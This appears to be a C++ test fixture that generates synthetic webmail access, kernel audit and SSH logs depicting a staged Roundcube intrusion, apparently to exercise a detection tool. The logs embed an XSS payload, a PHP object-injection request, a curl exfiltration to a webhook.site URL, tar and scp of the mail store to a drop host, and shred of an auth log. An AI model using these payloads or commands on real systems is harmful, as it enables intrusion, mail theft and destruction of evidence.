// mail1: the old Roundcube server. A hole in the webmail is used, a mail filter set, messages taken in bulk; then a
// shell under the web server's account packs the mail store and sends it out.
#include <fmt/format.h>

#include <algorithm>

#include "tests/demo/story.h"

namespace tocsin::demo {
namespace {

constexpr std::string_view kBrowser =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:142.0) Gecko/20100101 Firefox/142.0";
constexpr std::string_view kMonths[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                        "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

class AccessLog {
 public:
  void request(Time time, std::string_view address, std::string_view method, std::string_view target, int status,
               int bytes, std::string_view agent = kBrowser) {
    const Civil c = civil(time);
    lines_.emplace_back(
        time.seconds,
        fmt::format("{} - - [{:02}/{}/{}:{:02}:{:02}:{:02} +0000] \"{} {} HTTP/1.1\" {} {} \"-\" \"{}\"\n", address,
                    c.day, kMonths[c.month - 1], c.year, c.hour, c.minute, c.second, method, target, status, bytes,
                    agent));
  }
  std::string finish() {
    std::ranges::stable_sort(lines_, {}, &std::pair<std::int64_t, std::string>::first);
    std::string out;
    for (const auto& [seconds, line] : lines_) out += line;
    return out;
  }

 private:
  std::vector<std::pair<std::int64_t, std::string>> lines_;
};

// A command as the kernel's audit writes it in the enriched format: the call, its arguments, the folder, the file.
class AuditLog {
 public:
  void run(Time time, std::string_view user, int uid, std::string_view program,
           const std::vector<std::string>& arguments, std::string_view folder) {
    const std::string stamp =
        fmt::format("msg=audit({}.{:03}:{})", time.seconds, time.nanoseconds / 1'000'000, ++serial_);
    const int pid = 2000 + static_cast<int>(serial_ * 17 % 20000);
    const std::string_view name = program.substr(program.rfind('/') + 1);
    std::string text = fmt::format(
        "type=SYSCALL {} : arch=c000003e syscall=59 success=yes exit=0 a0=55d0c0a1 a1=55d0c0b8 a2=55d0c0c0 a3=8 "
        "items=2 "
        "ppid={} pid={} auid=4294967295 uid={} gid={} euid={} suid={} fsuid={} egid={} sgid={} fsgid={} tty=(none) "
        "ses=4294967295 comm=\"{}\" exe=\"{}\" subj=unconfined key=\"exec\"\x1d"
        "ARCH=x86_64 SYSCALL=execve AUID=\"unset\" UID=\"{}\" GID=\"{}\" EUID=\"{}\"\n",
        stamp, pid - 1, pid, uid, uid, uid, uid, uid, uid, uid, uid, name.substr(0, 15), program, user, user, user);
    text += fmt::format("type=EXECVE {} : argc={}", stamp, arguments.size());
    for (std::size_t i = 0; i < arguments.size(); ++i) text += fmt::format(" a{}={}", i, encode(arguments[i]));
    text += fmt::format("\ntype=CWD {} : cwd={}\n", stamp, encode(folder));
    text += fmt::format(
        "type=PATH {} : item=0 name={} inode={} dev=fe:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL\x1d"
        "OUID=\"root\" OGID=\"root\"\n",
        stamp, encode(program), 131000 + hash(program));
    std::string title;
    for (std::size_t i = 0; i < arguments.size(); ++i) title += (i ? std::string(1, '\0') : "") + arguments[i];
    text += fmt::format("type=PROCTITLE {} : proctitle={}\n", stamp, encode(title));
    lines_.emplace_back(time.seconds, std::move(text));
  }
  std::string finish() {
    std::ranges::stable_sort(lines_, {}, &std::pair<std::int64_t, std::string>::first);
    std::string out;
    for (const auto& [seconds, text] : lines_) out += text;
    return out;
  }

 private:
  // In quotes, or in hexadecimal where the value holds blanks, quotes or control characters.
  static std::string encode(std::string_view value) {
    const bool plain =
        !value.empty() && std::ranges::all_of(value, [](char c) { return c > ' ' && c != '"' && c != 0x7f; });
    if (plain) return fmt::format("\"{}\"", value);
    std::string out;
    for (const unsigned char c : value) out += fmt::format("{:02X}", c);
    return out;
  }
  static int hash(std::string_view text) {
    int sum = 0;
    for (const char c : text) sum = (sum * 31 + c) % 9000;
    return sum;
  }

  std::uint64_t serial_ = 880;
  std::vector<std::pair<std::int64_t, std::string>> lines_;
};

}  // namespace

std::string webmail_access() {
  AccessLog log;
  Dice dice(80);
  for (const Time time : office_moments(dice, 600)) {
    const std::uint32_t uid = 2000 + dice.below(600);
    const std::string_view address = dice.below(6) ? kOffice : "203.0.113.140";
    switch (dice.below(7)) {
      case 0:
        log.request(time, address, "GET", "/webmail/?_task=mail&_mbox=INBOX", 200, 30211);
        break;
      case 1:
        log.request(time, address, "GET", fmt::format("/webmail/?_task=mail&_mbox=INBOX&_uid={}&_action=show", uid),
                    200, 18077);
        break;
      case 2:
        log.request(time, address, "POST", "/webmail/?_task=login", dice.below(8) ? 302 : 401, 5120);
        break;
      case 3:
        log.request(time, address, "GET", "/webmail/skins/elastic/styles/styles.min.css?s=1755", 304, 0);
        break;
      default:
        log.request(time, address, "POST", "/webmail/?_task=mail&_action=refresh", 200, 611);
    }
  }
  // The internet knocks as it always does, and is refused.
  for (int i = 0; i < 40; ++i)
    log.request(at("2026-09-14T02:10:00").plus_seconds(i * 1900 + dice.below(900)),
                fmt::format("203.0.113.{}", 150 + i % 60), "GET",
                i % 3 ? "/wp-login.php" : "/webmail/?_task=mail&_mbox=%3Cscript%3Ealert(1)%3C/script%3E",
                i % 3 ? 404 : 403, 196, "Mozilla/5.0 zgrab/0.x");
  // The hole: a script in the folder's name, then an upload whose origin carries an object.
  log.request(at("2026-09-15T00:41:07"), kWebmailThief, "POST", "/webmail/?_task=login", 302, 5120);
  log.request(at("2026-09-15T00:41:09"), kWebmailThief, "GET",
              "/webmail/?_task=mail&_mbox=INBOX%22%3E%3Csvg/onload%3Deval(atob(name))%3E", 200, 30388);
  log.request(
      at("2026-09-15T00:42:31"), kWebmailThief, "POST",
      "/webmail/"
      "?_task=settings&_remote=1&_from=edit-!%22;i:0;O:16:%22Crypt_GPG_Engine%22:1&_id=&_uploadid=u&_action=upload",
      200, 214);
  log.request(at("2026-09-15T00:44:02"), kWebmailThief, "POST",
              "/webmail/?_task=settings&_action=plugin.managesieve-save", 200, 2290);
  for (int i = 0; i < 140; ++i)
    log.request(at("2026-09-15T00:46:00").plus_seconds(i * 3), kWebmailThief, "GET",
                fmt::format("/webmail/?_task=mail&_mbox=INBOX&_uid={}&_action=viewsource", 1800 + i), 200,
                22000 + i * 37);
  return log.finish();
}

std::string webmail_audit() {
  AuditLog log;
  Dice dice(41);
  for (const Time time : office_moments(dice, 70)) {
    switch (dice.below(4)) {
      case 0:
        log.run(time, "root", 0, "/usr/bin/systemctl", {"systemctl", "is-active", "dovecot"}, "/");
        break;
      case 1:
        log.run(time, "www-data", 33, "/usr/bin/dash", {"sh", "-c", "/usr/sbin/sendmail -t -i"}, "/var/www/roundcube");
        break;
      case 2:
        log.run(time, "root", 0, "/usr/bin/tar", {"tar", "czf", "/srv/backup/mail.tgz", "/var/vmail"}, "/root");
        break;
      default:
        log.run(time, "root", 0, "/usr/bin/find", {"find", "/var/lib/php/sessions", "-mmin", "+24", "-delete"}, "/");
    }
  }
  const auto shell = [&](std::string_view time, const std::string& program, const std::vector<std::string>& arguments) {
    log.run(at(time), "www-data", 33, program, arguments, "/var/www/roundcube");
  };
  shell("2026-09-15T00:58:20.114", "/usr/bin/dash", {"sh", "-c", "id; uname -a > /dev/shm/.p"});
  shell("2026-09-15T00:58:20.131", "/usr/bin/id", {"id"});
  shell("2026-09-15T00:58:51.402", "/usr/bin/curl",
        {"curl", "-s", "-d", "@/dev/shm/.p", "https://webhook.site/6f1f0d6c-8f3e-4b0a-9d53-3b7a1c0e7788"});
  shell("2026-09-15T01:06:12.770", "/usr/bin/tar",
        {"tar", "czf", "/dev/shm/.m.tgz", "/var/vmail/parliament.kalmoria.example"});
  shell("2026-09-15T01:11:40.009", "/usr/bin/scp",
        {"scp", "-i", "/dev/shm/.k", "-o", "StrictHostKeyChecking=no", "/dev/shm/.m.tgz",
         fmt::format("u@{}:/srv/d/", kDrop)});
  shell("2026-09-15T01:29:02.318", "/usr/bin/shred", {"shred", "-u", "/var/log/auth.log.1"});
  return log.finish();
}

std::string webmail_auth() {
  std::vector<std::pair<std::int64_t, std::string>> lines;
  const auto line = [&](Time time, std::string_view message) {
    time.nanoseconds = time.nanoseconds / 1000 * 1000;
    time.digits = 6;
    std::string iso = time.iso();
    iso.pop_back();
    lines.emplace_back(time.seconds, fmt::format("{}+00:00 mail1 {}\n", iso, message));
  };
  Dice dice(22);
  for (const Time time : office_moments(dice, 60)) {
    const std::uint32_t port = 40000 + dice.below(20000);
    if (dice.below(3)) {
      line(time,
           fmt::format("sshd[{}]: Accepted publickey for backup from 10.4.0.30 port {} ssh2: ED25519 SHA256:{:016x}",
                       900 + dice.below(9000), port, dice.next()));
    } else {
      line(time, fmt::format("sshd[{}]: Failed password for root from 203.0.113.{} port {} ssh2",
                             900 + dice.below(9000), 150 + dice.below(60), port));
    }
  }
  line(at("2026-09-15T01:31:15.5"),
       "sudo: www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www/roundcube ; USER=root ; COMMAND=/usr/bin/id");
  std::ranges::stable_sort(lines, {}, &std::pair<std::int64_t, std::string>::first);
  std::string out;
  for (const auto& [seconds, text] : lines) out += text;
  return out;
}

}  // namespace tocsin::demo
